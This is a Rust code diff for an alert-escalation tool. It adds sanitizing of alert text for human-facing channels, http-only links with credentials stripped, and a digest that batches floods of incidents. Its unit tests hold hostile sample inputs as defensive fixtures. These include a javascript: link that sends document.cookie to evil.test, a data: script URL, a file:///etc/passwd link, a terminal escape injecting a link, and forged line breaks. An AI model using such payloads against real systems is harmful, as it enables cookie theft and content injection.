@@ -179,6 +179,10 @@ pub struct Escalation {
     pub generator_url: Option<String>,
     pub silence_url: Option<String>,
     pub created_at: DateTime<Utc>,
+    /// Why the recipe's `attach` diagnostics were not run for this escalation (collected
+    /// recently for the same recipe and target, the host busy or held, …).
+    #[serde(default)]
+    pub diagnostics_omitted: Option<String>,
 }
 
 impl Escalation {
@@ -186,6 +190,108 @@ impl Escalation {
     pub fn summary_line(&self) -> String {
         one_line(&self.summary)
     }
+
+    /// This escalation as a human may be shown it, whatever the alert carried: one-line
+    /// fields with every control, bidi and zero-width character escaped, multi-line fields
+    /// keeping only their line breaks and tabs, links only `http(s)://` and without a
+    /// `user:password@` part. Every channel sends this, never the stored record as is
+    /// (rows queued by an older salve included).
+    pub fn for_humans(&self) -> Escalation {
+        let mut e = self.clone();
+        let line = |text: &mut String| *text = one_line(text);
+        let opt_line = |text: &mut Option<String>| {
+            if let Some(text) = text {
+                *text = one_line(text);
+            }
+        };
+        line(&mut e.summary);
+        line(&mut e.state);
+        e.why = block_text(&e.why);
+        opt_line(&mut e.alertname);
+        opt_line(&mut e.severity);
+        opt_line(&mut e.recipe);
+        e.labels = e
+            .labels
+            .iter()
+            .map(|(name, value)| (one_line(name), one_line(value)))
+            .collect();
+        e.annotations = e
+            .annotations
+            .iter()
+            .map(|(name, value)| (one_line(name), block_text(value)))
+            .collect();
+        if let Some(target) = &mut e.target {
+            line(&mut target.name);
+            line(&mut target.address);
+            opt_line(&mut target.user);
+        }
+        for step in &mut e.steps {
+            line(&mut step.command);
+            line(&mut step.outcome);
+            step.stdout = block_text(&step.stdout);
+            step.stderr = block_text(&step.stderr);
+            opt_line(&mut step.error);
+        }
+        for check in &mut e.checks {
+            line(&mut check.check);
+            check.detail = block_text(&check.detail);
+        }
+        for diagnostic in &mut e.diagnostics {
+            line(&mut diagnostic.command);
+            diagnostic.output = block_text(&diagnostic.output);
+            opt_line(&mut diagnostic.error);
+        }
+        opt_line(&mut e.diagnostics_omitted);
+        if let Some(breaker) = &mut e.breaker {
+            line(&mut breaker.window);
+        }
+        e.generator_url = e.generator_url.as_deref().and_then(safe_link);
+        e.silence_url = e.silence_url.as_deref().and_then(safe_link);
+        e
+    }
+}
+
+/// `url` as a link a human may follow: only `http://` or `https://` with a host (a
+/// `javascript:`, `data:` or `file:` link from an alert is dropped), and without its
+/// `user:password@` part, which is a credential. `None` when it is not such a link.
+pub fn safe_link(url: &str) -> Option<String> {
+    let mut parsed = reqwest::Url::parse(url.trim()).ok()?;
+    if !matches!(parsed.scheme(), "http" | "https") || parsed.host_str().is_none() {
+        return None;
+    }
+    // Both only fail for URLs that cannot have a user (not http/https).
+    let _ = parsed.set_username("");
+    let _ = parsed.set_password(None);
+    Some(parsed.to_string())
+}
+
+/// `url` for display (API, history): its `user:password@` part redacted, the rest as
+/// given. Text that is not an absolute URL is returned unchanged.
+pub fn redact_url_credentials(url: &str) -> String {
+    match reqwest::Url::parse(url.trim()) {
+        Ok(mut parsed) if !parsed.username().is_empty() || parsed.password().is_some() => {
+            let _ = parsed.set_password(None);
+            let _ = parsed.set_username("redacted");
+            parsed.to_string()
+        }
+        _ => url.to_owned(),
+    }
+}
+
+/// Multi-line text for a machine-read body (webhook JSON): line breaks and tabs kept,
+/// every other control, bidi or zero-width character (CR, ESC, …) escaped.
+pub fn block_text(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
+        if c == '\n' || c == '\t' {
+            out.push(c);
+        } else if c.is_control() || is_invisible_or_bidi(c) {
+            push_escaped(&mut out, c);
+        } else {
+            out.push(c);
+        }
+    }
+    out
 }
 
 /// Characters `encodeURIComponent` leaves alone; the Alertmanager UI encodes its links
@@ -428,6 +534,9 @@ pub fn render_text(escalation: &Escalation) -> String {
         }
     }
 
+    if let Some(omitted) = &e.diagnostics_omitted {
+        let _ = writeln!(out, "\nDIAGNOSTICS\n  (omitted: {})", one_line(omitted));
+    }
     if !e.diagnostics.is_empty() {
         out.push_str("\nDIAGNOSTICS\n");
         for diagnostic in &e.diagnostics {
@@ -461,14 +570,172 @@ pub fn render_text(escalation: &Escalation) -> String {
         }
     }
 
-    if e.generator_url.is_some() || e.silence_url.is_some() {
+    let generator_url = e.generator_url.as_deref().and_then(safe_link);
+    let silence_url = e.silence_url.as_deref().and_then(safe_link);
+    if generator_url.is_some() || silence_url.is_some() {
         out.push_str("\nLINKS\n");
-        if let Some(url) = &e.generator_url {
+        if let Some(url) = &generator_url {
             let _ = writeln!(out, "  Alert source: {}", one_line(url));
         }
-        if let Some(url) = &e.silence_url {
+        if let Some(url) = &silence_url {
             let _ = writeln!(out, "  Silence:      {}", one_line(url));
         }
+    }
+    out
+}
+
+/// Incidents listed one per line in a digest's text; the rest are counted.
+pub const DIGEST_LISTED: usize = 50;
+/// Alertnames and hosts shown with their counts in a digest's text; the rest are summed.
+const DIGEST_TOP: usize = 20;
+
+/// One incident of a digest.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct DigestEntry {
+    pub incident_id: i64,
+    pub summary: String,
+    pub alertname: Option<String>,
+    /// The inventory host, if the plan had one.
+    pub target: Option<String>,
+    pub state: String,
+}
+
+/// Many escalations for the same reason to the same channel within a short window, sent
+/// as one message (`[escalation] digest_after`/`digest_window`): the flood is one page,
+/// not a thousand. Every incident is in `incidents`; the text lists the first
+/// `DIGEST_LISTED` and counts them all by alertname and host.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Digest {
+    /// The digest's number, journaled on each of its incidents ("escalated in digest #D").
+    pub digest_id: i64,
+    pub reason: EscalationReason,
+    pub count: usize,
+    pub incidents: Vec<DigestEntry>,
+    /// Incidents per alertname (`(no alertname)` when missing).
+    pub by_alertname: BTreeMap<String, usize>,
+    /// Incidents per target host (`(no target)` when none).
+    pub by_host: BTreeMap<String, usize>,
+    pub created_at: DateTime<Utc>,
+}
+
+impl Digest {
+    /// The digest of `escalations` (all for `reason`), each shown as `for_humans` does.
+    pub fn new(
+        digest_id: i64,
+        reason: EscalationReason,
+        escalations: &[Escalation],
+        created_at: DateTime<Utc>,
+    ) -> Digest {
+        let mut by_alertname = BTreeMap::new();
+        let mut by_host = BTreeMap::new();
+        let incidents: Vec<DigestEntry> = escalations
+            .iter()
+            .map(|escalation| {
+                let e = escalation.for_humans();
+                let target = e.target.as_ref().map(|t| t.name.clone());
+                *by_alertname
+                    .entry(
+                        e.alertname
+                            .clone()
+                            .unwrap_or_else(|| "(no alertname)".into()),
+                    )
+                    .or_insert(0usize) += 1;
+                *by_host
+                    .entry(target.clone().unwrap_or_else(|| "(no target)".into()))
+                    .or_insert(0usize) += 1;
+                DigestEntry {
+                    incident_id: e.incident_id,
+                    summary: super::template::truncate_chars(&e.summary, 250),
+                    alertname: e.alertname,
+                    target,
+                    state: e.state,
+                }
+            })
+            .collect();
+        Digest {
+            digest_id,
+            reason,
+            count: incidents.len(),
+            incidents,
+            by_alertname,
+            by_host,
+            created_at,
+        }
+    }
+
+    /// One line for subjects and titles.
+    pub fn summary_line(&self) -> String {
+        let top = top_counts(&self.by_alertname, 3)
+            .into_iter()
+            .map(|(name, n)| format!("{name} ×{n}"))
+            .collect::<Vec<_>>()
+            .join(", ");
+        one_line(&format!(
+            "digest #{}: {} incident(s) escalated ({}): {top}",
+            self.digest_id,
+            self.count,
+            self.reason.as_str()
+        ))
+    }
+}
+
+/// The `n` largest counts, largest first (ties by name).
+fn top_counts(counts: &BTreeMap<String, usize>, n: usize) -> Vec<(&str, usize)> {
+    let mut sorted: Vec<(&str, usize)> = counts.iter().map(|(k, v)| (k.as_str(), *v)).collect();
+    sorted.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(b.0)));
+    sorted.truncate(n);
+    sorted
+}
+
+fn push_counts(out: &mut String, title: &str, counts: &BTreeMap<String, usize>) {
+    let _ = writeln!(out, "\n{title}");
+    let top = top_counts(counts, DIGEST_TOP);
+    for (name, n) in &top {
+        let _ = writeln!(out, "  {n:>6}  {}", one_line(name));
+    }
+    if counts.len() > top.len() {
+        let rest: usize =
+            counts.values().sum::<usize>() - top.iter().map(|(_, n)| n).sum::<usize>();
+        let _ = writeln!(out, "  {rest:>6}  (in {} more)", counts.len() - top.len());
+    }
+}
+
+/// The plain-text digest: how many and why, counts by alertname and host, then the first
+/// `DIGEST_LISTED` incidents one per line. Every alert-supplied value is on one escaped line.
+pub fn render_digest_text(digest: &Digest) -> String {
+    let mut out = String::new();
+    let _ = writeln!(out, "{}", digest.summary_line());
+    let _ = writeln!(
+        out,
+        "salve escalated {} incident(s) for the same reason ({}: {}) within a short time; \
+         they are sent as this one digest instead of one message each.",
+        digest.count,
+        digest.reason.as_str(),
+        digest.reason.headline()
+    );
+    let _ = writeln!(
+        out,
+        "Digest #{} at {}. Each incident's full report: `salve history` or /api/v1/incidents/ID.",
+        digest.digest_id,
+        digest.created_at.format("%Y-%m-%d %H:%M:%S UTC")
+    );
+    push_counts(&mut out, "BY ALERTNAME", &digest.by_alertname);
+    push_counts(&mut out, "BY HOST", &digest.by_host);
+    out.push_str("\nINCIDENTS\n");
+    for entry in digest.incidents.iter().take(DIGEST_LISTED) {
+        let _ = writeln!(
+            out,
+            "  #{:<6} {}",
+            entry.incident_id,
+            one_line(&entry.summary)
+        );
+    }
+    if digest.incidents.len() > DIGEST_LISTED {
+        let _ = writeln!(
+            out,
+            "  … and {} more (counted above; each is in `salve history`)",
+            digest.incidents.len() - DIGEST_LISTED
+        );
     }
     out
 }
@@ -527,6 +794,7 @@ pub fn sample() -> Escalation {
             detail: "exit 7".into(),
         }],
         diagnostics: Vec::new(),
+        diagnostics_omitted: None,
         generator_url: Some("http://prometheus:9090/graph?g0.expr=up%3D%3D0".into()),
         created_at: DateTime::parse_from_rfc3339("2026-11-28T03:00:00Z")
             .expect("valid timestamp")
@@ -639,6 +907,128 @@ mod tests {
             text.contains("stdout (truncated: only the beginning is shown):\n       | ok\n"),
             "{text}"
         );
+    }
+
+    #[test]
+    fn links_are_only_http_and_never_carry_credentials() {
+        for (url, expected) in [
+            (
+                "http://prometheus:9090/graph?g0.expr=up",
+                Some("http://prometheus:9090/graph?g0.expr=up"),
+            ),
+            (
+                "https://u:hunter2@grafana.test/d/1",
+                Some("https://grafana.test/d/1"),
+            ),
+            (
+                "https://only-user@grafana.test/",
+                Some("https://grafana.test/"),
+            ),
+            ("javascript:alert(document.cookie)", None),
+            ("JaVaScRiPt:alert(1)", None),
+            (" javascript:alert(1)", None),
+            ("data:text/html;base64,PHNjcmlwdD4=", None),
+            ("file:///etc/passwd", None),
+            ("vbscript:msgbox", None),
+            ("/relative/path", None),
+            ("http://", None),
+        ] {
+            assert_eq!(safe_link(url).as_deref(), expected, "{url}");
+        }
+        assert_eq!(
+            redact_url_credentials("http://admin:hunter2@am.test:9093/x"),
+            "http://redacted@am.test:9093/x"
+        );
+        assert_eq!(redact_url_credentials("http://am.test/"), "http://am.test/");
+        assert_eq!(redact_url_credentials("not a url"), "not a url");
+    }
+
+    #[test]
+    fn what_channels_send_has_escaped_text_and_safe_links() {
+        let mut e = hostile();
+        e.generator_url = Some("javascript:fetch('//evil.test/'+document.cookie)".into());
+        e.silence_url = Some("http://admin:hunter2@am.test/#/silences/new".into());
+        e.alertname = Some("Disk\u{1b}]8;;http://evil.test\u{7}full\r\nX: y".into());
+        e.annotations
+            .insert("runbook".into(), "line 1\r\nline 2\u{1b}[31m".into());
+        let shown = e.for_humans();
+        assert_eq!(shown.generator_url, None);
+        assert_eq!(
+            shown.silence_url.as_deref(),
+            Some("http://am.test/#/silences/new")
+        );
+        assert_eq!(
+            shown.alertname.as_deref(),
+            Some("Disk\\u{1b}]8;;http://evil.test\\u{7}full\\r\\nX: y")
+        );
+        assert_eq!(shown.annotations["runbook"], "line 1\\r\nline 2\\u{1b}[31m");
+        let json = serde_json::to_string(&shown).unwrap();
+        for forbidden in ["\\u001b", "\\u0007", "hunter2", "javascript:"] {
+            assert!(!json.contains(forbidden), "{forbidden} in {json}");
+        }
+        // What a consumer decodes holds no control character but line breaks and tabs.
+        fn strings(value: &serde_json::Value, out: &mut Vec<String>) {
+            match value {
+                serde_json::Value::String(s) => out.push(s.clone()),
+                serde_json::Value::Array(items) => items.iter().for_each(|v| strings(v, out)),
+                serde_json::Value::Object(fields) => fields.iter().for_each(|(k, v)| {
+                    out.push(k.clone());
+                    strings(v, out)
+                }),
+                _ => {}
+            }
+        }
+        let mut all = Vec::new();
+        strings(&serde_json::to_value(&shown).unwrap(), &mut all);
+        for text in all {
+            assert!(
+                !text
+                    .chars()
+                    .any(|c| c.is_control() && c != '\n' && c != '\t'),
+                "{text:?}"
+            );
+        }
+        // Escaping twice changes nothing: what was escaped stays readable.
+        assert_eq!(shown.for_humans(), shown);
+        let text = render_text(&e);
+        assert!(!text.contains("javascript:"), "{text}");
+        assert!(!text.contains("hunter2"), "{text}");
+    }
+
+    #[test]
+    fn a_digest_lists_a_bounded_number_and_counts_them_all() {
+        let escalations: Vec<Escalation> = (0..1000)
+            .map(|n| {
+                let mut e = sample();
+                e.incident_id = n;
+                e.reason = EscalationReason::Novel;
+                e.alertname = Some(if n % 10 == 0 {
+                    "Rare\nForged: line".into()
+                } else {
+                    "Common".into()
+                });
+                e.summary = format!("novel: no recipe handles alert {n}\u{1b}[2J");
+                e
+            })
+            .collect();
+        let digest = Digest::new(
+            7,
+            EscalationReason::Novel,
+            &escalations,
+            sample().created_at,
+        );
+        assert_eq!(digest.count, 1000);
+        assert_eq!(digest.incidents.len(), 1000);
+        assert_eq!(digest.by_alertname["Common"], 900);
+        assert_eq!(digest.by_alertname["Rare\\nForged: line"], 100);
+        assert_eq!(digest.by_host["web1"], 1000);
+        let text = render_digest_text(&digest);
+        assert!(text.starts_with("digest #7: 1000 incident(s) escalated (novel): Common ×900, Rare\\nForged: line ×100\n"), "{text}");
+        assert_eq!(text.matches("\n  #").count(), DIGEST_LISTED, "{text}");
+        assert!(text.contains("… and 950 more"), "{text}");
+        assert!(!text.contains('\u{1b}'), "{text}");
+        assert!(!text.lines().any(|l| l.starts_with("Forged")), "{text}");
+        assert!(text.len() < 16 * 1024, "{} bytes", text.len());
     }
 
     #[test]
